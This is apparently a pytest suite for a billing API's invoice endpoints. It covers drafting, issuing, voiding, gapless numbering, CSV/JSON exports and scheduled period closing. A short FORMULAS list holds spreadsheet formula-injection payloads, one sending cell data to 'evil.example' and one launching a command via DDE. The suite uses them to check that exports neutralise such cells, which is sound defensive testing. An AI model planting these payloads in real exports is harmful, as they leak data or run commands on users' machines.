"""Invoices over HTTP: every status and error code of API.md's invoice endpoints, gapless numbers,
exports that add up, and the scheduled run through /_local/invoke (invariants 5-8)."""

import csv
import io
import threading
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta
from decimal import Decimal

import pytest

from billing.domain.invoice_export import NUMBER_COLUMNS
from billing.domain.values import parse_timestamp

from .clock import invoke_run, move_clock
from .test_plans_http import TERMS, error_of, new_plan_id
from .test_subscriptions_http import assert_ledger_is_honest, ledger, new_org, subscribe
from .test_usage_http import record, usage_body


def with_overage(server, token, org, quantity="201"):
    """Lab Standard: 5 credits a run, 1000 allowance, 12.5 cents a credit over."""
    subscription = subscribe(server, token, org)
    assert record(server, token, usage_body(org, quantity=quantity)).status_code == 201
    return subscription


def end_period(server, token, sid):
    """Cancel: the final period ends now, so its invoice may be issued (a real test clock is
    another issue's work; a period closed early by a future-dated run does not count as ended)."""
    response = server.request("POST", f"/subscriptions/{sid}/cancel", token=token("marketplace:admin"))
    assert response.status_code == 200, response.text


def draft(server, token, sid, body=None, who=None):
    return server.request("POST", f"/subscriptions/{sid}/invoices/draft", token=who or token("finance"), json=body)


def test_drafting_a_period_prices_the_base_fee_and_overage_from_the_aggregate(server, token):
    org = new_org()
    sid = with_overage(server, token, org)["subscription_id"]
    response = draft(server, token, sid)
    assert response.status_code == 201
    invoice = response.json()
    assert (invoice["status"], invoice["number"], invoice["currency"], invoice["organization_id"]) == (
        "draft",
        None,
        "USD",
        org,
    )
    assert [
        (line["kind"], line["service"], line["quantity"], line["unit_amount_cents"], line["amount_cents"])
        for line in invoice["line_items"]
    ] == [
        ("base_fee", None, "1", "49900", 49_900),
        ("overage", "instrumentation", "5", "12.5", 62),
    ]  # 62.5 -> 62, half-even
    assert invoice["subtotal_cents"] == invoice["total_cents"] == 49_962
    again = draft(server, token, sid, body={"period_start": invoice["period_start"]})
    assert (
        again.status_code == 200
        and again.json()["invoice_id"] == invoice["invoice_id"]
        and again.json()["created_at"] == invoice["created_at"]
    )
    listed = server.request("GET", f"/subscriptions/{sid}/invoices", token=token("org:member", org=org)).json()
    assert [i["invoice_id"] for i in listed["items"]] == [invoice["invoice_id"]]
    one = server.request(
        "GET", f"/subscriptions/{sid}/invoices/{invoice['invoice_id']}", token=token("org:admin", org=org)
    )
    assert one.status_code == 200 and one.json() == again.json()


def test_drafting_needs_finance_or_admin_of_the_subscriptions_residency(server, token):
    org = new_org()
    sid = subscribe(server, token, org)["subscription_id"]
    for who in (token("org:admin", org=org), token("service"), token("org:member", org=org)):
        response = draft(server, token, sid, who=who)
        assert response.status_code == 403 and error_of(response)["code"] == "forbidden"
    elsewhere = draft(server, token, sid, who=token("finance", residency="eu"))
    assert elsewhere.status_code == 403 and error_of(elsewhere)["code"] == "residency_mismatch"
    assert draft(server, token, sid, who=token("marketplace:admin")).status_code == 201
    assert server.request("POST", f"/subscriptions/{sid}/invoices/draft").status_code == 401
    assert draft(server, token, "01JBZ8Y7Q9R5N0W3X2V1T6S4PA").status_code == 404


@pytest.mark.parametrize(
    "body", [{"period_start": "2020-01-01T00:00:00Z"}, {"period_start": "soon"}, {"periodstart": "x"}]
)
def test_drafting_an_unknown_period_is_422(server, token, body):
    sid = subscribe(server, token, new_org())["subscription_id"]
    response = draft(server, token, sid, body=body)
    assert response.status_code == 422 and error_of(response)["code"] == "validation_error"
    assert {f["location"] for f in error_of(response)["details"]["fields"]} == {"body"}  # a body field, not a query one
    malformed = server.request("POST", f"/subscriptions/{sid}/invoices/draft", token=token("finance"), data="{")
    assert malformed.status_code == 400
    assert server.request("GET", f"/subscriptions/{sid}/invoices", token=token("finance")).json()["items"] == []


def test_issuing_numbers_and_freezes_and_a_period_issued_is_not_redrafted(server, token):
    org = new_org()
    sid = with_overage(server, token, org)["subscription_id"]
    invoice = draft(server, token, sid).json()
    path = f"/subscriptions/{sid}/invoices/{invoice['invoice_id']}"
    end_period(server, token, sid)
    for who in (token("org:admin", org=org), token("service")):
        assert server.request("POST", f"{path}/issue", token=who).status_code == 403
    assert (
        error_of(server.request("POST", f"{path}/issue", token=token("finance", residency="eu")))["code"]
        == "residency_mismatch"
    )
    issued = server.request("POST", f"{path}/issue", token=token("finance"))
    assert issued.status_code == 200
    body = issued.json()
    assert (
        body["status"] == "issued"
        and body["number"].startswith("INV-")
        and len(body["number"]) == 10
        and body["issued_at"]
    )
    twice = server.request("POST", f"{path}/issue", token=token("finance"))
    assert twice.status_code == 409 and error_of(twice)["code"] == "invoice_not_draft"
    redraft = draft(server, token, sid)
    assert redraft.status_code == 409 and error_of(redraft)["code"] == "invoice_not_draft"
    assert server.request("GET", path, token=token("finance")).json() == body  # frozen
    assert (
        server.request("POST", f"/subscriptions/{sid}/invoices/inv_nope/issue", token=token("finance")).status_code
        == 404
    )


def test_voiding_keeps_the_number_and_is_final(server, token):
    sid = with_overage(server, token, new_org())["subscription_id"]
    invoice = draft(server, token, sid).json()
    path = f"/subscriptions/{sid}/invoices/{invoice['invoice_id']}"
    end_period(server, token, sid)
    number = server.request("POST", f"{path}/issue", token=token("marketplace:admin")).json()["number"]
    voided = server.request("POST", f"{path}/void", token=token("finance"))
    assert (
        voided.status_code == 200
        and voided.json()["status"] == "void"
        and voided.json()["number"] == number
        and voided.json()["voided_at"]
    )
    assert server.request("POST", f"{path}/void", token=token("finance")).json() == voided.json()
    assert error_of(server.request("POST", f"{path}/issue", token=token("finance")))["code"] == "invoice_not_draft"
    assert (
        server.request("POST", f"{path}/void", token=token("org:admin", org=invoice["organization_id"])).status_code
        == 403
    )
    assert (
        server.request("POST", f"/subscriptions/{sid}/invoices/inv_nope/void", token=token("finance")).status_code
        == 404
    )


def test_a_voided_period_is_invoiced_again_under_the_next_revision(server, token):
    subscription = with_overage(server, token, new_org(), quantity="10")
    sid = subscription["subscription_id"]
    first = draft(server, token, sid).json()
    path = f"/subscriptions/{sid}/invoices"
    end_period(server, token, sid)
    issued = server.request("POST", f"{path}/{first['invoice_id']}/issue", token=token("finance")).json()
    server.request("POST", f"{path}/{first['invoice_id']}/void", token=token("finance"))
    again = draft(server, token, sid)
    assert (
        again.status_code == 201
        and again.json()["invoice_id"] == first["invoice_id"] + "_r002"
        and again.json()["revision"] == 2
    )
    assert draft(server, token, sid).status_code == 200  # the new revision is a draft like any other
    reissued = server.request("POST", f"{path}/{again.json()['invoice_id']}/issue", token=token("finance")).json()
    assert reissued["number"] != issued["number"]
    listed = server.request("GET", path, token=token("finance")).json()["items"]
    assert [(i["revision"], i["status"]) for i in listed] == [(2, "issued"), (1, "void")]
    assert (
        server.request("GET", f"{path}/{first['invoice_id']}", token=token("finance")).json()["number"]
        == issued["number"]
    )


def test_the_scheduled_run_drafts_a_new_revision_for_a_voided_period(fresh_server, token):
    server = fresh_server  # its clock moves a month on
    subscription = with_overage(server, token, new_org(), quantity="10")
    sid = subscription["subscription_id"]
    first = draft(server, token, sid).json()
    server.request("POST", f"/subscriptions/{sid}/invoices/{first['invoice_id']}/void", token=token("finance"))
    invoke_run(server, parse_timestamp(subscription["current_period_end"]) + timedelta(seconds=1))
    _, _, invoices = state(server, token, sid)
    assert [(i["revision"], i["status"]) for i in invoices] == [(2, "draft"), (1, "void")]


def test_a_draft_can_be_voided_and_never_takes_a_number(server, token):
    sid = subscribe(server, token, new_org())["subscription_id"]
    invoice = draft(server, token, sid).json()
    voided = server.request(
        "POST", f"/subscriptions/{sid}/invoices/{invoice['invoice_id']}/void", token=token("finance")
    )
    assert voided.status_code == 200 and voided.json()["number"] is None


def test_invoice_numbers_are_gapless_under_concurrent_issuing(fresh_server, token):
    server = fresh_server
    drafts = []
    for _ in range(8):
        sid = subscribe(server, token, new_org())["subscription_id"]
        drafts.append((sid, draft(server, token, sid).json()["invoice_id"]))
        end_period(server, token, sid)
    barrier = threading.Barrier(len(drafts))

    def issue(target):
        barrier.wait()
        return server.request("POST", f"/subscriptions/{target[0]}/invoices/{target[1]}/issue", token=token("finance"))

    with ThreadPoolExecutor(max_workers=8) as pool:
        numbers = sorted(r.json()["number"] for r in pool.map(issue, drafts))
    assert numbers == [f"INV-{n:06d}" for n in range(1, 9)]


def test_exports_are_csv_and_json_whose_rows_add_up(server, token):
    org = new_org()
    sid = with_overage(server, token, org, quantity="200.66")["subscription_id"]  # 3.3 credits over: 41.25 -> 41 cents
    invoice = draft(server, token, sid).json()
    path = f"/subscriptions/{sid}/invoices/{invoice['invoice_id']}/export"
    response = server.request("GET", path, token=token("finance"), params={"format": "csv"})
    assert response.status_code == 200 and response.headers["Content-Type"].startswith("text/csv")
    assert "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [r["kind"] for r in rows] == ["base_fee", "overage"] and [int(r["amount_cents"]) for r in rows] == [
        49_900,
        41,
    ]
    assert (
        sum(int(r["amount_cents"]) for r in rows)
        == int(rows[0]["invoice_total_cents"])
        == invoice["total_cents"]
        == 49_941
    )
    assert sum(Decimal(r["amount"]) for r in rows) == Decimal(rows[0]["invoice_total"]) == Decimal("499.41")
    as_json = server.request("GET", path, token=token("marketplace:admin"), params={"format": "json"})
    assert as_json.status_code == 200 and as_json.headers["Content-Type"].startswith("application/json")
    assert sum(line["amount_cents"] for line in as_json.json()["lines"]) == as_json.json()["total_cents"] == 49_941
    assert server.request("GET", path, token=token("finance"), params={"format": "xml"}).status_code == 422
    for own in (token("org:admin", org=org), token("org:member", org=org)):  # customers download their own invoices
        mine = server.request("GET", path, token=own, params={"format": "csv"})
        assert mine.status_code == 200 and mine.text == response.text
    theirs = server.request("GET", path, token=token("org:member", org=new_org()))
    assert theirs.status_code == 404 and error_of(theirs)["code"] == "not_found"
    refused = server.request("GET", path, token=token("service"))
    assert refused.status_code == 403 and error_of(refused)["details"]["permission"] == "read_billing"
    assert error_of(server.request("GET", path, token=token("finance", residency="eu")))["code"] == "residency_mismatch"


def test_organizations_read_only_their_own_invoices(server, token):
    org = new_org()
    sid = subscribe(server, token, org)["subscription_id"]
    invoice = draft(server, token, sid).json()
    path = f"/subscriptions/{sid}/invoices"
    assert server.request("GET", path, token=token("org:admin", org=new_org())).status_code == 404
    assert (
        server.request("GET", f"{path}/{invoice['invoice_id']}", token=token("org:member", org=new_org())).status_code
        == 404
    )
    assert server.request("GET", path, token=token("service")).status_code == 403
    assert server.request("GET", f"{path}/inv_nope", token=token("org:member", org=org)).status_code == 404
    assert server.request("GET", path).status_code == 401


# --- the scheduled run ----------------------------------------------------------------------------


def state(server, token, sid):
    subscription = server.request("GET", f"/subscriptions/{sid}", token=token("finance")).json()
    subscription.pop("health")
    invoices = server.request("GET", f"/subscriptions/{sid}/invoices", token=token("finance")).json()["items"]
    return subscription, ledger(server, token, sid), invoices


def test_the_scheduled_run_closes_the_period_once_even_delivered_twice_and_twice_at_once(fresh_server, token):
    server = fresh_server
    org = new_org()
    subscription = with_overage(server, token, org, quantity="30")  # 150 of 1000 used
    sid = subscription["subscription_id"]
    server.request(
        "POST",
        f"/subscriptions/{sid}/credits",
        token=token("marketplace:admin"),
        json={"amount": "40", "type": "top_up", "reason": "pack", "idempotency_key": "p1"},
    )
    after_end = parse_timestamp(subscription["current_period_end"]) + timedelta(minutes=15)

    assert invoke_run(server, after_end)["subscriptions_due"] == 1  # its worker closes it before the answer
    closed, entries, invoices = state(server, token, sid)
    assert (
        [e["type"] for e in entries[-2:]] == ["expiry", "grant"]
        and entries[-2]["amount"] == "-850"
        and entries[-1]["amount"] == "1000"
    )
    assert (
        closed["credit_balance"] == "1040"
        and closed["allowance_balance"] == "1000"
        and closed["purchased_balance"] == "40"
    )
    assert closed["current_period_start"] == subscription["current_period_end"]
    # The base fee and the 40 credits sold at Lab Standard's 10¢ a credit.
    assert [(i["period_start"], i["status"], i["total_cents"]) for i in invoices] == [
        (subscription["current_period_start"], "draft", 49_900 + 400)
    ]
    assert [(line["kind"], line["amount_cents"]) for line in invoices[0]["line_items"]] == [
        ("base_fee", 49_900),
        ("top_up", 400),
    ]
    assert_ledger_is_honest(server, token, sid)

    assert invoke_run(server, after_end)["subscriptions_due"] == 0  # closed: due a period later
    with ThreadPoolExecutor(max_workers=2) as pool:
        twice = list(pool.map(lambda _: invoke_run(server, after_end), range(2)))
    assert [r["subscriptions_due"] for r in twice] == [0, 0]
    assert state(server, token, sid) == (closed, entries, invoices)


def test_two_runs_at_once_close_a_period_exactly_once(fresh_server, token):
    server = fresh_server
    subscriptions = [with_overage(server, token, new_org(), quantity="10") for _ in range(3)]
    after_end = max(parse_timestamp(s["current_period_end"]) for s in subscriptions) + timedelta(minutes=15)
    barrier = threading.Barrier(2)

    def run(_):
        barrier.wait()
        return invoke_run(server, after_end)

    with ThreadPoolExecutor(max_workers=2) as pool:
        reports = list(pool.map(run, range(2)))
    assert sum(r["subscriptions_due"] for r in reports) >= 3  # both may queue all three: closed once each
    assert server.request("GET", "/_local/queues/PeriodClosingDeadLetterQueue").json()["messages"] == []
    for subscription in subscriptions:
        closed, entries, invoices = state(server, token, subscription["subscription_id"])
        assert [e["type"] for e in entries] == ["grant", "usage", "expiry", "grant"] and len(invoices) == 1
        assert_ledger_is_honest(server, token, subscription["subscription_id"])


def test_the_scheduled_run_leaves_an_issued_invoice_alone(fresh_server, token):
    server = fresh_server  # its clock moves a month on
    subscription = with_overage(server, token, new_org(), quantity="10")
    sid = subscription["subscription_id"]
    invoice = draft(server, token, sid).json()
    end_period(server, token, sid)
    issued = server.request(
        "POST", f"/subscriptions/{sid}/invoices/{invoice['invoice_id']}/issue", token=token("finance")
    ).json()
    assert issued["status"] == "issued"
    invoke_run(server, parse_timestamp(subscription["current_period_end"]) + timedelta(seconds=1))
    assert server.request("GET", "/_local/queues/PeriodClosingDeadLetterQueue").json()["messages"] == []
    _, _, invoices = state(server, token, sid)
    assert [i for i in invoices if i["invoice_id"] == invoice["invoice_id"]] == [issued]


def test_the_scheduled_run_rejects_an_event_without_a_time(server):
    response = server.request("POST", "/_local/invoke/InvoicingRunFunction", json={"detail": {}})
    assert response.status_code == 500 and response.json()["errorType"] == "ValidationFailed"


# --- money safety -----------------------------------------------------------------------------


def test_subscribing_using_the_allowance_and_canceling_at_once_pays_for_the_allowance(server, token):
    org = new_org()
    sid = subscribe(server, token, org)["subscription_id"]
    assert record(server, token, usage_body(org, quantity="200")).status_code == 201  # 1000 credits: all of it
    canceled = server.request("POST", f"/subscriptions/{sid}/cancel", token=token("org:admin", org=org)).json()
    invoice = draft(server, token, sid).json()
    assert invoice["period_end"] == canceled["canceled_at"]  # the final period ends at the cancellation
    [base] = invoice["line_items"]
    assert base["amount_cents"] == 49_900 and base["quantity"] == "1" and base["unit_amount_cents"] == "49900"
    assert "1000 of 1000 allowance credits used" in base["description"] and "prorated at 100%" in base["description"]


def test_a_canceled_period_bills_the_larger_of_time_and_allowance_used(server, token):
    org = new_org()
    sid = subscribe(server, token, org)["subscription_id"]
    assert record(server, token, usage_body(org, quantity="50")).status_code == 201  # 250 of 1000: a quarter
    server.request("POST", f"/subscriptions/{sid}/cancel", token=token("org:admin", org=org))
    [base] = draft(server, token, sid).json()["line_items"]
    assert base["quantity"] == "0.25" and base["amount_cents"] == 12_475  # 49,900 x 0.25


def test_an_open_period_is_not_issued_and_later_usage_lands_on_its_invoice(server, token):
    org = new_org()
    sid = with_overage(server, token, org)["subscription_id"]  # 5 credits over
    invoice = draft(server, token, sid).json()
    refused = server.request(
        "POST", f"/subscriptions/{sid}/invoices/{invoice['invoice_id']}/issue", token=token("finance")
    )
    assert refused.status_code == 409 and error_of(refused)["code"] == "period_open"
    assert error_of(refused)["details"]["period_end"] == invoice["period_end"]
    assert (
        server.request("GET", f"/subscriptions/{sid}/invoices/{invoice['invoice_id']}", token=token("finance")).json()
        == invoice
    )
    assert record(server, token, usage_body(org, quantity="20")).status_code == 201  # 100 more over
    end_period(server, token, sid)
    issued = server.request(
        "POST", f"/subscriptions/{sid}/invoices/{invoice['invoice_id']}/issue", token=token("finance")
    ).json()
    overage = [line for line in issued["line_items"] if line["kind"] == "overage"]
    assert issued["status"] == "issued" and [line["quantity"] for line in overage] == [
        "105"
    ]  # every credit over, billed


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Pay here")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "\tTAB",
    "\rCR",
]


@pytest.mark.parametrize("name", FORMULAS)
def test_exported_text_cells_never_run_as_spreadsheet_formulas(server, token, name):
    plan_id = new_plan_id()
    terms = {**TERMS, "name": name.strip() or "x", "billing_cadence": "monthly"}
    assert (
        server.request(
            "POST", "/plans", token=token("marketplace:admin"), json={"plan_id": plan_id, **terms}
        ).status_code
        == 201
    )
    org = new_org()
    sid = subscribe(server, token, org, plan_id=plan_id)["subscription_id"]
    invoice = draft(server, token, sid).json()
    path = f"/subscriptions/{sid}/invoices/{invoice['invoice_id']}/export"
    rows = list(csv.DictReader(io.StringIO(server.request("GET", path, token=token("finance")).text)))
    assert rows[0]["description"].startswith("'" + terms["name"][:1]) or not terms["name"].startswith(
        ("=", "+", "-", "@")
    )
    for row in rows:
        assert all(
            not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
            for column, cell in row.items()
            if column not in NUMBER_COLUMNS
        )
        assert int(row["amount_cents"]) == row_amount(row)


def row_amount(row):
    """Numbers stay numbers: a spreadsheet reads these columns as values, unprefixed."""
    return int(Decimal(row["amount"]) * 100)


# --- periods ---------------------------------------------------------------------------------------


def test_periods_list_newest_first_with_their_usage_and_invoice(fresh_server, token):
    server = fresh_server  # its clock moves two periods on
    org = new_org()
    subscription = with_overage(server, token, org, quantity="210")  # 1050 credits: 50 over
    sid = subscription["subscription_id"]
    first_end = parse_timestamp(subscription["current_period_end"])
    invoke_run(server, first_end + timedelta(minutes=1))  # closes the first period, drafting its invoice
    assert record(server, token, usage_body(org, quantity="2")).status_code == 201  # 10 credits in the second
    periods = server.request("GET", f"/subscriptions/{sid}/periods", token=token("org:member", org=org)).json()
    second, first = periods["items"]
    assert periods["next_cursor"] is None
    assert (second["status"], second["usage_credits"], second["overage_credits"], second["invoice_id"]) == (
        "open",
        "10",
        "0",
        None,
    )
    assert second["period_start"] == subscription["current_period_end"]
    assert (first["status"], first["usage_credits"], first["overage_credits"]) == ("closed", "1050", "50")
    assert first["invoice_status"] == "draft" and first["period_start"] == subscription["current_period_start"]
    paged = server.request("GET", f"/subscriptions/{sid}/periods", token=token("finance"), params={"limit": 1}).json()
    assert paged["items"] == [second] and paged["next_cursor"]
    rest = server.request(
        "GET",
        f"/subscriptions/{sid}/periods",
        token=token("finance"),
        params={"limit": 1, "cursor": paged["next_cursor"]},
    ).json()
    assert rest == {"items": [first], "next_cursor": None}
    outsider = server.request("GET", f"/subscriptions/{sid}/periods", token=token("org:member", org=new_org()))
    assert outsider.status_code == 404
    bad = server.request("GET", f"/subscriptions/{sid}/periods", token=token("finance"), params={"cursor": "7"})
    assert bad.status_code == 422 and error_of(bad)["details"]["fields"][0]["field"] == "cursor"


def test_daily_usage_comes_from_day_aggregates_oldest_first(fresh_server, token):
    server = fresh_server  # its clock moves a day on
    org = new_org()
    sid = subscribe(server, token, org)["subscription_id"]
    assert record(server, token, usage_body(org, quantity="2")).status_code == 201
    today = parse_timestamp(server.request("GET", "/_local/clock").json()["now"])
    move_clock(server, today + timedelta(days=1))
    events = [usage_body(org, quantity="1"), usage_body(org, service="analytics", quantity="4")]
    assert server.request("POST", "/usage/batch", token=token("service"), json={"events": events}).status_code == 200
    daily = server.request("GET", f"/subscriptions/{sid}/usage/daily", token=token("org:admin", org=org)).json()[
        "items"
    ]
    assert [d["day"] for d in daily] == [today.date().isoformat(), (today + timedelta(days=1)).date().isoformat()]
    assert daily[0]["services"] == {
        "instrumentation": {"quantity": "2", "credits": "10", "overage_credits": "0", "events": 1}
    }
    assert (
        set(daily[1]["services"]) == {"instrumentation", "analytics"}
        and daily[1]["services"]["analytics"]["credits"] == "1"
    )
    window = {
        "from": (today + timedelta(days=1)).date().isoformat(),
        "to": (today + timedelta(days=2)).date().isoformat(),
    }
    assert [
        d["day"]
        for d in server.request(
            "GET", f"/subscriptions/{sid}/usage/daily", token=token("finance"), params=window
        ).json()["items"]
    ] == [window["from"]]
    too_long = server.request(
        "GET",
        f"/subscriptions/{sid}/usage/daily",
        token=token("finance"),
        params={"from": "2025-01-01", "to": "2026-06-01"},
    )
    assert too_long.status_code == 422 and [f["field"] for f in error_of(too_long)["details"]["fields"]] == [
        "from",
        "to",
    ]


# --- finance's lists across subscriptions ----------------------------------------------------------


def subscribe_in(server, token, org, residency):
    body = {
        "plan_id": "lab-standard",
        "residency": residency,
        "sla_acceptance": {"accepted_by": "a", "sla_version": "1"},
    }
    response = server.request(
        "POST", f"/organizations/{org}/subscriptions", token=token("org:admin", org=org, residency=residency), json=body
    )
    assert response.status_code == 201, response.text
    return response.json()


def test_finance_lists_subscriptions_and_invoices_across_organizations_by_filter(fresh_server, token):
    server = fresh_server  # a database of its own: the lists are exact
    server.request("GET", "/plans")  # the sandbox seeds Lab Standard into the empty catalog first
    plan_id = new_plan_id()
    assert (
        server.request(
            "POST",
            "/plans",
            token=token("marketplace:admin"),
            json={"plan_id": plan_id, **TERMS, "billing_cadence": "monthly"},
        ).status_code
        == 201
    )
    orgs = [new_org() for _ in range(3)]
    sids = [
        subscribe(server, token, orgs[0])["subscription_id"],
        subscribe(server, token, orgs[1], plan_id=plan_id)["subscription_id"],
        subscribe_in(server, token, orgs[2], "eu")["subscription_id"],
    ]
    server.request("POST", f"/subscriptions/{sids[0]}/cancel", token=token("marketplace:admin"))
    finance = token("finance")
    listed = server.request("GET", "/subscriptions", token=finance, params={"residency": "us"}).json()
    assert [s["subscription_id"] for s in listed["items"]] == [sids[1], sids[0]]  # one residency, newest first
    by_plan = server.request("GET", "/subscriptions", token=finance, params={"plan_id": plan_id}).json()["items"]
    assert [s["subscription_id"] for s in by_plan] == [sids[1]]
    canceled = server.request("GET", "/subscriptions", token=finance, params={"status": "canceled"}).json()["items"]
    assert [s["subscription_id"] for s in canceled] == [sids[0]] and canceled[0]["credit_balance"] == "1000"
    eu = server.request(
        "GET", "/subscriptions", token=finance, params={"residency": "eu", "organization_id": orgs[2]}
    ).json()
    assert [s["subscription_id"] for s in eu["items"]] == [sids[2]]
    first_page = server.request("GET", "/subscriptions", token=finance, params={"limit": 1}).json()
    assert len(first_page["items"]) == 1 and first_page["next_cursor"]
    other_filter = server.request(
        "GET",
        "/subscriptions",
        token=finance,
        params={"limit": 1, "status": "active", "cursor": first_page["next_cursor"]},
    )
    assert other_filter.status_code == 422 and error_of(other_filter)["details"]["fields"][0]["field"] == "cursor"
    for who in (token("org:admin", org=orgs[0]), token("service")):
        refused = server.request("GET", "/subscriptions", token=who)
        assert refused.status_code == 403 and error_of(refused)["details"]["permission"] == "list_across_organizations"

    drafts = [draft(server, token, sid).json() for sid in sids[:2]]
    invoices = server.request("GET", "/invoices", token=finance, params={"status": "draft", "residency": "us"})
    invoices = invoices.json()["items"]
    assert {i["invoice_id"] for i in invoices} == {d["invoice_id"] for d in drafts} and "residency" not in invoices[0]
    mine = server.request("GET", "/invoices", token=finance, params={"organization_id": orgs[1]}).json()["items"]
    assert [i["invoice_id"] for i in mine] == [drafts[1]["invoice_id"]]

    def in_window(start, end):
        params = {"period_start_from": start, "period_start_to": end}
        return {
            i["invoice_id"] for i in server.request("GET", "/invoices", token=finance, params=params).json()["items"]
        }

    starts = sorted(d["period_start"] for d in drafts)
    assert in_window(starts[0], starts[-1]) == {d["invoice_id"] for d in drafts}
    assert in_window("2020-01-01T00:00:00Z", "2020-02-01T00:00:00Z") == set()
    half_past = starts[-1].replace("Z", ".5Z")  # bounds between whole seconds round inward to them
    assert in_window(starts[0], half_past) == {d["invoice_id"] for d in drafts}
    assert in_window(half_past, "2999-01-01T00:00:00Z") == set()
    backwards = server.request(
        "GET",
        "/invoices",
        token=finance,
        params={"period_start_from": "2027-01-01T00:00:00Z", "period_start_to": "2026-01-01T00:00:00Z"},
    )
    assert backwards.status_code == 422 and len(error_of(backwards)["details"]["fields"]) == 2
    assert server.request("GET", "/invoices", token=finance, params={"residency": "eu"}).json()["items"] == []


def every_page(server, who, path, params, limit):
    items, cursor = [], None
    while True:
        page = server.request(
            "GET", path, token=who, params=params | {"limit": limit} | ({"cursor": cursor} if cursor else {})
        )
        assert page.status_code == 200, page.text
        items += page.json()["items"]
        assert len(page.json()["items"]) <= limit
        cursor = page.json()["next_cursor"]
        if not cursor:
            return items


def test_without_a_residency_finance_lists_every_residency_served_as_one_list_newest_first(fresh_server, token):
    """API.md Subscriptions: "without `residency`, those of every residency served (one list, merged
    in order; the cursor carries each residency's position)"; the same for GET /invoices."""
    server = fresh_server
    server.request("GET", "/plans")
    residencies = ["us", "eu", "eu", "us", "us", "eu", "us"]
    subscriptions = [subscribe_in(server, token, new_org(), residency) for residency in residencies]
    newest_first = sorted(subscriptions, key=lambda s: s["subscription_id"], reverse=True)  # ULIDs: creation order
    finance_eu = token("finance", residency="eu")  # the caller's own residency does not narrow the list
    for limit in (1, 2, 3, 50):
        listed = every_page(server, finance_eu, "/subscriptions", {}, limit)
        assert [s["subscription_id"] for s in listed] == [s["subscription_id"] for s in newest_first], limit
    only_us = every_page(server, finance_eu, "/subscriptions", {"residency": "us"}, 2)
    assert [s["subscription_id"] for s in only_us] == [
        s["subscription_id"] for s in newest_first if s["residency"] == "us"
    ]

    drafts = [
        draft(server, token, s["subscription_id"], who=token("finance", residency=s["residency"])).json()
        for s in subscriptions
    ]
    newest_period_first = sorted(drafts, key=lambda i: (i["period_start"], i["invoice_id"]), reverse=True)
    in_range = {"period_start_from": "2020-01-01T00:00:00Z", "period_start_to": "2999-01-01T00:00:00Z"}
    for limit, params in [(1, {"status": "draft"}), (3, {}), (50, {}), (1, in_range), (2, in_range)]:
        listed = every_page(server, token("finance"), "/invoices", params, limit)
        assert [i["invoice_id"] for i in listed] == [i["invoice_id"] for i in newest_period_first], (limit, params)

    one_residency = server.request("GET", "/subscriptions", token=finance_eu, params={"residency": "us", "limit": 1})
    elsewhere = server.request(
        "GET", "/subscriptions", token=finance_eu, params={"cursor": one_residency.json()["next_cursor"]}
    )
    assert elsewhere.status_code == 422 and error_of(elsewhere)["details"]["fields"][0]["field"] == "cursor"
